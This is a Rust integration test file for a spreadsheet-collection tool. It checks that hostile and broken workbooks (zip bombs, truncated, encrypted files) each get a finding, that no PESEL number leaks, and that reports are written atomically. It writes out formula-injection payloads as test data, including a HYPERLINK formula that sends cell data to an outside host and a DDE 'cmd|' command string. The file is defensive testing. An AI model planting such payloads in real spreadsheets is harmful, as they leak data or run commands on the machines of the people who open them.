//! Hostile and broken returns (the corpus in `tests/fixtures/hostile/`, made by its
//! `make_corpus.py`, plus a million-row sheet made here): each gets its finding, nothing
//! crashes, the good files beside them are still collected, nothing typed becomes a
//! formula in a workbook gpwr writes, PESEL numbers never reach an output, and an
//! interrupted report leaves the previous one whole.

use crate::common::*;
use calamine::{Data, Reader};
use serde_json::Value;
use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;

const CORPUS: &str = "tests/fixtures/hostile";
const PESEL: &str = "44051401458";

/// A real SP6 template whose `Wskaźniki` sheet has a million filled rows.
fn million_rows(path: &Path) {
    let template = std::fs::read(sample_template("SP6")).unwrap();
    let mut source = zip::ZipArchive::new(std::io::Cursor::new(template)).unwrap();
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(1));
    for i in 0..source.len() {
        let mut entry = source.by_index(i).unwrap();
        let name = entry.name().unwrap().to_string();
        zip.start_file(name.as_str(), options).unwrap();
        if name == "xl/worksheets/sheet2.xml" {
            let mut xml = String::from(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>",
            );
            for row in 1..=1_000_000 {
                xml.push_str(&format!("<row r=\"{row}\"><c r=\"E{row}\"><v>{row}</v></c></row>"));
            }
            xml.push_str("</sheetData></worksheet>");
            zip.write_all(xml.as_bytes()).unwrap();
        } else {
            std::io::copy(&mut entry, &mut zip).unwrap();
        }
    }
    zip.finish().unwrap();
}

/// A real workbook with one cell at A1 and one at XFD1048576: a naive reader would
/// allocate a 17-billion-cell grid for it.
fn far_cells(path: &Path) {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "tu").unwrap();
    sheet.write_string(1_048_575, 16_383, "i tam").unwrap();
    book.save(path).unwrap();
}

/// A campaign whose inbox holds `files` from the corpus (or any repository path).
fn campaign_with(files: &[&str]) -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = temp_dir();
    gpwr(tmp.path(), &["init", "k"]).expect_code(0);
    let campaign = tmp.path().join("k");
    for file in files {
        let from = if file.contains('/') { repo().join(file) } else { repo().join(CORPUS).join(file) };
        std::fs::copy(&from, campaign.join("inbox").join(from.file_name().unwrap()))
            .unwrap_or_else(|e| panic!("{}: {e}", from.display()));
    }
    (tmp, campaign)
}

fn collect_json(campaign: &Path) -> Value {
    let run = gpwr(campaign, &["collect", "--json"]);
    assert!(run.code == 0 || run.code == 1, "collect crashed ({}):\n{}", run.code, run.stderr);
    serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("{e}\n{}", run.stdout))
}

#[test]
fn every_hostile_file_gets_its_finding_and_the_good_ones_are_still_collected() {
    let corpus: Vec<String> = std::fs::read_dir(repo().join(CORPUS))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !n.ends_with(".py") && !n.ends_with(".md"))
        .collect();
    let mut files: Vec<&str> = corpus.iter().map(String::as_str).collect();
    files.extend([
        "samples/inbox/ZI.xlsx",
        "samples/inbox/UM.xlsx",
        "tests/fixtures/resaved/KPP.libreoffice.xls",
        "tests/fixtures/resaved/MOPS.libreoffice.ods",
    ]);
    let (_tmp, campaign) = campaign_with(&files);
    let inbox = campaign.join("inbox");
    million_rows(&inbox.join("milion_wierszy.xlsx"));
    far_cells(&inbox.join("daleko.xlsx"));
    std::fs::write(inbox.join("skan.pdf"), b"%PDF-1.4\n%%EOF\n").unwrap();
    std::fs::write(inbox.join("~$ZI.xlsx"), b"lock").unwrap();
    let before = hash_tree(&inbox);

    let json = collect_json(&campaign);
    let all = findings(&json);
    let has = |file: &str, code: &str, location: &str| {
        all.iter().any(|(f, c, l)| f == file && c == code && (location.is_empty() || l == location))
    };
    // One case per line: the file, its finding and where.
    let expected = [
        ("pusty.xlsx", "PLIK_PUSTY", ""),
        ("list.xlsx", "PLIK_NIE_ARKUSZ", ""),
        ("skan.xlsx", "PLIK_NIE_ARKUSZ", ""),
        ("uciety.xlsx", "PLIK_USZKODZONY", ""),
        ("uciety.xls", "PLIK_USZKODZONY", ""),
        ("panika.xls", "PLIK_USZKODZONY", ""),
        ("haslo.xlsx", "PLIK_ZASZYFROWANY", ""),
        ("bomba_naglowek.xlsx", "PLIK_ZA_DUZY", ""),
        ("bomba.xlsx", "PLIK_ZA_DUZY", ""),
        ("komorki.ods", "PLIK_ZA_DUZY", ""),
        ("milion_wierszy.xlsx", "PLIK_ZA_DUZY", ""),
        ("daleko.xlsx", "BRAK_IDENTYFIKATORA", ""),
        ("inny_program.xlsx", "INNY_PROGRAM", ""),
        ("inny_rok.xlsx", "INNY_ROK", ""),
        ("bez_arkusza.xlsx", "BRAK_ARKUSZA", ""),
        ("zmieniona_nazwa.xlsx", "BRAK_ARKUSZA", ""),
        ("zmieniona_nazwa.xlsx", "DODATKOWY_ARKUSZ", "Dane"),
        ("bez_naglowka_id.xlsx", "BRAK_KOLUMNY", "Wskaźniki"),
        ("id_wyczyszczone.xlsx", "BRAK_WIERSZA", "Wskaźniki"),
        ("id_zmienione.xlsx", "NIEZNANY_WSKAZNIK", "Wskaźniki!A16"),
        ("id_zmienione.xlsx", "BRAK_WIERSZA", "Wskaźniki"),
        ("wiersz_powtorzony.xlsx", "WIERSZ_POWTORZONY", "Wskaźniki!A17"),
        ("formuly_jako_tekst.xlsx", "TEKST_JAK_FORMULA", "Wskaźniki!E7"),
        ("formuly_jako_tekst.xlsx", "TEKST_JAK_FORMULA", "Wskaźniki!E11"),
        ("formuly_jako_tekst.xlsx", "TEKST_JAK_FORMULA", "Wskaźniki!E16"),
        ("formuly_jako_tekst.xlsx", "TEKST_JAK_FORMULA", "Wskaźniki!E24"),
        ("formuly_jako_tekst.xlsx", "TEKST_ZAMIAST_LICZBY", "Wskaźniki!E24"),
        ("formuly_jako_tekst.xlsx", "TEKST_JAK_FORMULA", "Wskaźniki!G8"),
        ("formuly_jako_tekst.xlsx", "TEKST_JAK_FORMULA", "Wskaźniki!E9"),
        ("formuly_jako_tekst.xlsx", "TEKST_JAK_FORMULA", "Działania!B4"),
        ("pesel_adres.xlsx", "MOZLIWE_DANE_OSOBOWE", "Wskaźniki!E9"),
        ("pesel_adres.xlsx", "MOZLIWE_DANE_OSOBOWE", "Wskaźniki!E14"),
        ("sterujace.xlsx", "ZNAKI_STERUJACE", "Wskaźniki!E8"),
        ("dlugi_tekst.xlsx", "TEKST_ZA_DLUGI", "Wskaźniki!E9"),
        ("skan.pdf", "PLIK_POMINIETY", ""),
    ];
    let missing: Vec<String> = expected
        .iter()
        .filter(|(file, code, location)| !has(file, code, location))
        .map(|(file, code, location)| format!("{file}: {code} {location}, got {:?}", codes_of(&all, file)))
        .collect();
    assert!(missing.is_empty(), "expected findings not given:\n{}", missing.join("\n"));
    // Files that hide nothing worse than unusual text are read like any other.
    for file in ["rtl_emoji.xlsx", "gleboki_xml.xlsx", "KPP.libreoffice.xls", "MOPS.libreoffice.ods"] {
        let unexpected: Vec<String> = codes_of(&all, file)
            .into_iter()
            .filter(|c| !matches!(c.as_str(), "BRAK_WYMAGANEJ_WARTOSCI" | "DUPLIKAT"))
            .collect();
        assert!(unexpected.is_empty(), "{file}: expected no findings of its own, got {unexpected:?}");
    }
    assert!(codes_of(&all, "~$ZI.xlsx").is_empty(), "lock files are ignored silently");

    let used: BTreeMap<&str, bool> = json["pliki"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["plik"].as_str().unwrap(), f["odczytany"] == true))
        .collect();
    for file in
        ["ZI.xlsx", "UM.xlsx", "rtl_emoji.xlsx", "gleboki_xml.xlsx", "KPP.libreoffice.xls", "MOPS.libreoffice.ods"]
    {
        assert_eq!(used.get(file), Some(&true), "{file} is read");
    }
    let rows = read_csv(&campaign.join("collected/dane.csv"));
    let zi = rows.iter().filter(|r| r["instytucja"] == "ZI" && r["plik"] == "ZI.xlsx" && !r["wartosc"].is_empty());
    assert!(zi.count() > 0, "ZI's values are in the tidy table");
    let descriptions = read_csv(&campaign.join("collected/opisy.csv"));
    let rtl = descriptions.iter().find(|r| r["plik"] == "rtl_emoji.xlsx").expect("the right-to-left description");
    assert_eq!(rtl["opis"], "Zajęcia dla rodzin z Ukrainy i Syrii: مرحبا بكم — שלום 👨‍👩‍👧‍👦 🎨📚 (ok. 20 osób)");
    assert_eq!(hash_tree(&inbox), before, "the inbox is never modified");
}

/// Every formula in every sheet of an xlsx gpwr wrote, as (part, cell, formula).
fn formulas_in(path: &Path) -> Vec<(String, String, String)> {
    let file = std::fs::File::open(path).unwrap();
    let mut zip = zip::ZipArchive::new(file).unwrap();
    let mut found = Vec::new();
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        let name = entry.name().unwrap().to_string();
        if !name.starts_with("xl/worksheets/sheet") {
            continue;
        }
        let mut xml = String::new();
        std::io::Read::read_to_string(&mut entry, &mut xml).unwrap();
        for cell in xml.split("<c ").skip(1) {
            if let Some(start) = cell.find("<f>").or_else(|| cell.find("<f ")) {
                let formula = &cell[start..];
                let formula = &formula[formula.find('>').unwrap() + 1..formula.find("</f>").unwrap_or(formula.len())];
                found.push((name.clone(), attribute(cell, "r").unwrap_or_default().to_string(), formula.to_string()));
            }
        }
    }
    found
}

/// Every text cell of every sheet, as (sheet, text).
fn texts_in(path: &Path) -> Vec<(String, String)> {
    let mut book = open(path);
    let mut out = Vec::new();
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).unwrap();
        for (_, _, value) in range.used_cells() {
            if let Data::String(s) = value {
                out.push((name.clone(), s.clone()));
            }
        }
    }
    out
}

#[test]
fn typed_formulas_personal_data_and_hidden_characters_never_reach_the_outputs_as_such() {
    let (_tmp, campaign) =
        campaign_with(&["formuly_jako_tekst.xlsx", "pesel_adres.xlsx", "sterujace.xlsx", "dlugi_tekst.xlsx"]);
    collect_json(&campaign);
    let run = gpwr(&campaign, &["report"]);
    assert!(run.code == 0 || run.code == 1, "report failed:\n{}", run.stderr);

    let mut workbooks = vec![campaign.join("report/zestawienie.xlsx"), campaign.join("collected/ustalenia.xlsx")];
    workbooks.extend(xlsx_files(&campaign.join("collected/do_poprawy")));
    assert!(workbooks.len() >= 3, "feedback workbooks were written: {workbooks:?}");
    let injected = ["HYPERLINK", "cmd|", "@SUM", "2+3"];
    for workbook in &workbooks {
        let formulas = formulas_in(workbook);
        let bad: Vec<_> = formulas.iter().filter(|(_, _, f)| injected.iter().any(|i| f.contains(i))).collect();
        assert!(bad.is_empty(), "{}: typed text became a formula: {bad:?}", workbook.display());
    }
    // The same texts are there, as text cells.
    let summary = campaign.join("report/zestawienie.xlsx");
    let texts = texts_in(&summary);
    for typed in [
        "=HYPERLINK(\"http://example.com/?d=\"&A1,\"Kliknij tutaj\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
    ] {
        assert!(texts.iter().any(|(_, t)| t == typed), "zestawienie.xlsx keeps {typed:?} as text");
    }
    let findings_texts = texts_in(&campaign.join("collected/ustalenia.xlsx"));
    assert!(findings_texts.iter().any(|(_, t)| t == "-2+3"), "ustalenia.xlsx quotes -2+3 as text");

    // PESEL: masked in every output, found nowhere in full.
    let masked = "Pomoc rodzinie dziecka o numerze PESEL [PESEL ukryty 1] (kontakt przez pedagoga).";
    assert!(texts.iter().any(|(_, t)| t == masked), "zestawienie.xlsx has the masked description");
    let mut leaks = Vec::new();
    for dir in ["collected", "report"] {
        for (name, _) in hash_tree(&campaign.join(dir)) {
            let path = campaign.join(dir).join(&name);
            let bytes = std::fs::read(&path).unwrap();
            let text = if name.ends_with(".xlsx") || name.ends_with(".docx") {
                let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
                (0..zip.len())
                    .map(|i| {
                        let mut s = String::new();
                        let _ = std::io::Read::read_to_string(&mut zip.by_index(i).unwrap(), &mut s);
                        s
                    })
                    .collect::<String>()
            } else {
                String::from_utf8_lossy(&bytes).into_owned()
            };
            if text.contains(PESEL) {
                leaks.push(name.clone());
            }
            let binary = name.ends_with(".parquet");
            if !binary && (text.contains('\u{202E}') || text.contains('\u{7}')) {
                leaks.push(format!("{name} (hidden characters)"));
            }
        }
    }
    assert!(leaks.is_empty(), "a PESEL number or a hidden character reached: {leaks:?}");
    assert!(
        texts.iter().any(|(_, t)| t.contains("Spotkania[U+0007] z rodzicami[U+001B][31m")),
        "control characters are written out in the workbook"
    );
    // The 40 000-character description is cut to what a cell holds, not dropped.
    let longest = texts.iter().map(|(_, t)| t.chars().count()).max().unwrap();
    assert_eq!(longest, 32_767, "the long description fills one cell");
}

#[test]
fn a_report_killed_while_writing_leaves_the_previous_one_whole() {
    let tmp = temp_dir();
    gpwr(tmp.path(), &["init", "k"]).expect_code(0);
    let campaign = tmp.path().join("k");
    copy_tree(&repo().join("samples/inbox"), &campaign.join("inbox"));
    gpwr(&campaign, &["collect"]);
    gpwr(&campaign, &["report"]).expect_code(1);
    let previous = hash_tree(&campaign.join("report"));
    assert!(previous.contains_key("zestawienie.xlsx"), "{previous:?}");

    // A new return changes the report; the next run is killed (SIGXFSZ) when a file it
    // writes passes 16 KB, i.e. in the middle of writing the outputs.
    std::fs::remove_file(campaign.join("inbox/UM.xlsx")).unwrap();
    gpwr(&campaign, &["collect"]);
    let killed = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("ulimit -f 16; exec '{}' report", env!("CARGO_BIN_EXE_gpwr")))
        .current_dir(&campaign)
        .output()
        .unwrap();
    assert!(!killed.status.success(), "the limited run must fail: {killed:?}");
    let leftovers = || -> Vec<String> {
        std::fs::read_dir(&campaign)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n.contains("gpwr-new"))
            .collect()
    };
    let left = leftovers();
    assert!(
        left.len() == 1 && left[0].starts_with(".report.gpwr-new-"),
        "the run was stopped while writing its new folder: {left:?}"
    );
    assert_eq!(hash_tree(&campaign.join("report")), previous, "the previous report is intact, file for file");

    // The next complete run replaces it and clears what the killed run left.
    gpwr(&campaign, &["report"]).expect_code(1);
    assert_ne!(hash_tree(&campaign.join("report")), previous, "the new report differs (UM is missing)");
    assert_eq!(leftovers(), Vec::<String>::new(), "the half-written folder is gone");
}
